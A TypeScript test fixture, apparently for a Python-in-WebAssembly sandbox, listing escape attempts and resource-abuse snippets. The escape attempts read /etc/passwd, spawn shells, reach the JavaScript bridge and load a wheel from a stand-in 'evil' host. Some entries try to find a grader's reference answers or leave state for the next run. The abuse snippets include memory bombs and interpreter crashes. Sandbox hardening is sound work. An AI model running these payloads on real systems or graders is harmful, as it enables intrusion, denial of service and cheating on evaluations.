/** What a module tries when it is imported. It prints `escaped` when it got something. */
export type Escape = { readonly what: string; readonly code: string };

const tries = (what: string, code: string): Escape => ({ what, code });

/** Ways out of Python that honest functions promise, and those through the bridge to JavaScript. */
export const escapes: readonly Escape[] = [
  tries('read a file of the host', 'print("escaped", open("/etc/passwd").read())'),
  tries('read the repository of the server', 'print("escaped", open("/work/main/package.json").read())'),
  tries(
    'read the environment',
    'import os\nif "DENO_DIR" in os.environ or os.environ["USER"] != "web_user": print("escaped", os.environ)\nraise OSError("made-up names and no others")',
  ),
  tries('list the processes', 'import os\nprint("escaped", os.listdir("/proc/1"))'),
  tries(
    'follow a symbolic link out',
    'import os\nos.symlink("/etc/passwd", "link")\nprint("escaped", open("link").read())',
  ),
  tries(
    'mount a folder of the host',
    'import pyodide_js\npyodide_js.mountNodeFS("/host", "/etc")\nprint("escaped", open("/host/passwd").read())',
  ),
  tries(
    'mount the host with the engine',
    'import pyodide_js\nfs = pyodide_js.FS\nfs.mkdir("/host")\nfs.mount(fs.filesystems.NODEFS, {"root": "/"}, "/host")\nprint("escaped", open("/host/etc/passwd").read())',
  ),
  tries('start a program', 'import subprocess\nprint("escaped", subprocess.check_output(["ls", "/"]))'),
  tries('start a shell', 'import os\nos.system("ls /")\nprint("escaped")'),
  tries('read from a shell', 'import os\nprint("escaped", os.popen("ls /").read())'),
  tries('fork', 'import os\nos.fork()\nprint("escaped")'),
  tries('become another program', 'import os\nos.execv("/bin/ls", ["ls"])\nprint("escaped")'),
  tries(
    'spawn with multiprocessing',
    'import multiprocessing\np = multiprocessing.Process(target=print)\np.start()\nprint("escaped")',
  ),
  tries('start a thread', 'import threading\nthreading.Thread(target=print).start()\nprint("escaped")'),
  tries(
    'load a library of the host',
    'import ctypes\nprint("escaped", ctypes.CDLL("/lib/x86_64-linux-gnu/libc.so.6").getpid())',
  ),
  tries(
    'connect a socket',
    'import socket\nsocket.create_connection(("127.0.0.1", 5432), timeout=1)\nprint("escaped")',
  ),
  tries(
    'listen on a port',
    'import socket\ns = socket.socket()\ns.bind(("0.0.0.0", 8080))\ns.listen()\nprint("escaped", s.accept())',
  ),
  tries(
    'open a page',
    'import urllib.request\nprint("escaped", urllib.request.urlopen("http://93.184.216.34/", timeout=1).read())',
  ),
  tries(
    'open a page through the bridge',
    'from pyodide.http import open_url\nprint("escaped", open_url("http://93.184.216.34/").read())',
  ),
  tries(
    'fetch through the bridge',
    'import asyncio\nfrom pyodide.http import pyfetch\nasync def go():\n    print("escaped", (await pyfetch("http://93.184.216.34/")).status)\nasyncio.run(go())',
  ),
  tries(
    'use sockets of node',
    'import pyodide_js\npyodide_js.useNodeSockFS()\nimport socket\nsocket.create_connection(("127.0.0.1", 5432), timeout=1)\nprint("escaped")',
  ),
  tries(
    'load a package from the network',
    'import asyncio, pyodide_js\nasync def go():\n    await pyodide_js.loadPackage("https://example.com/evil-1.0-py3-none-any.whl")\n    import evil\n    print("escaped")\nasyncio.run(go())',
  ),
  tries('install with micropip', 'import micropip\nprint("escaped")'),
  tries(
    'run JavaScript',
    'from pyodide.code import run_js\nprint("escaped", run_js("Deno.readTextFileSync(\'/etc/passwd\')"))',
  ),
  tries('take Deno from the bridge', 'from js import Deno\nprint("escaped", Deno.readTextFileSync("/etc/passwd"))'),
  tries('take process from the bridge', 'from js import process\nprint("escaped", process.binding("spawn_sync"))'),
  tries(
    'make a function by its constructor',
    'import coach_pipe\nmake = coach_pipe.send.constructor\nprint("escaped", make("return Deno")())',
  ),
  tries(
    'make a generator by its constructor',
    'import coach_pipe\nO = coach_pipe.constructor\nmake = O.getPrototypeOf(coach_pipe.send).constructor\nprint("escaped", make.new("return globalThis")())',
  ),
  tries(
    'poison the prototype of every object',
    'import coach_pipe\nP = coach_pipe.constructor.prototype\nP.root = "/"\nP.nodeFs = True\nprint("escaped", open("/etc/passwd").read())',
  ),
  tries(
    'set the memory limit back',
    'import coach_pipe, pyodide_js\nM = pyodide_js._module.wasmMemory\nprint("escaped", M.grow(60000))',
  ),
  tries(
    "take the reviewer's own questions",
    'import coach_pipe\nprint("escaped", coach_pipe.constructor.getOwnPropertyNames(coach_pipe.receive.caller))',
  ),
  tries(
    'find the reference on disk',
    'import pathlib\nfound = [str(p) for p in pathlib.Path("/repo").rglob("*") if "reference" in str(p)]\nif found: print("escaped", found)\nraise LookupError("nothing of the kind")',
  ),
  tries(
    'stay behind for the next',
    'import builtins, os\nassert not os.path.exists("/repo/left") and not hasattr(builtins, "left")\nopen("/repo/left", "w").write("x")\nbuiltins.left = 1\nraise SystemExit',
  ),
  tries(
    'find what stayed behind',
    'import builtins, os\nif os.path.exists("/repo/left") or hasattr(builtins, "left"): print("escaped")\nraise LookupError("nothing of the kind")',
  ),
];

/** Ways to take more than one's share, or to bring the interpreter down. */
export const abuses: readonly Escape[] = [
  tries('loop for ever', 'while True: pass'),
  tries(
    'loop for ever and catch everything',
    'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
  ),
  tries('sleep', 'import time\ntime.sleep(600)'),
  tries('sleep past the clock', 'import _thread\nlock = _thread.allocate_lock()\nlock.acquire()\nlock.acquire()'),
  tries('wait for a keyboard', 'input()'),
  tries('wait in an event loop', 'import asyncio\nasyncio.run(asyncio.sleep(600))'),
  tries('match a pattern that explodes', 'import re\nre.match("(a+)+$", "a" * 50 + "b")'),
  tries('compute a number that explodes', 'n = 7 ** 7 ** 9'),
  tries('take all memory at once', 'x = bytearray(1_900_000_000)'),
  tries('take all memory by and by', 'x = []\nwhile True: x.append(bytearray(1_000_000))'),
  tries(
    'take all memory outside of Python',
    'import pyodide_js\nx = []\nwhile True: x.append(pyodide_js._module.HEAP8.slice())',
  ),
  tries(
    'unpack a bomb',
    'import io, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z: z.writestr("x", bytes(200_000_000))\nx = [zipfile.ZipFile(b).read("x") for _ in range(20)]',
  ),
  tries('fill the disk', 'with open("big", "wb") as f:\n    while True: f.write(bytes(1_000_000))'),
  tries('print 100 MB', 'for _ in range(100_000): print("x" * 1_000)'),
  tries('print and catch', 'while True:\n    try: print("x" * 1_000)\n    except BaseException: pass'),
  tries('flood the pipe', 'import coach_pipe\nwhile True: coach_pipe.send("x" * 1_000_000)'),
  tries('flood the pipe with questions', 'import coach_pipe\nwhile True: coach_pipe.send(\'{"event":{"pull":0}}\')'),
  tries('recurse', 'def f(): f()\nf()'),
  tries('recurse without a limit', 'import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1)\nf(0)'),
  tries('recurse in C', 'x = []\nfor _ in range(1_000_000): x = [x]\nrepr(x)'),
  tries('end the interpreter', 'import os\nos._exit(0)'),
  tries('end the interpreter beneath Python', 'import signal\nsignal.raise_signal(signal.SIGKILL)'),
  tries(
    'crash the interpreter',
    'import ctypes\nctypes.string_at(0xFFFFFFF0, 100_000)\nctypes.memset(0, 1, 10_000_000)',
  ),
  tries('resurrect in __del__', 'class A:\n    def __del__(self):\n        A()\nA()\nwhile True: A()'),
  tries('go on in atexit', 'import atexit\n@atexit.register\ndef late():\n    while True: pass\nraise SystemExit'),
  tries(
    'take over the imports',
    'import sys\nclass Hook:\n    def find_spec(self, *a):\n        while True: pass\nsys.meta_path.insert(0, Hook())\nimport colorsys',
  ),
  tries(
    'trace every line',
    'import sys\nsys.settrace(lambda *a: (_ for _ in ()).throw(RuntimeError("traced")))\ndef f(): pass\nf()',
  ),
];
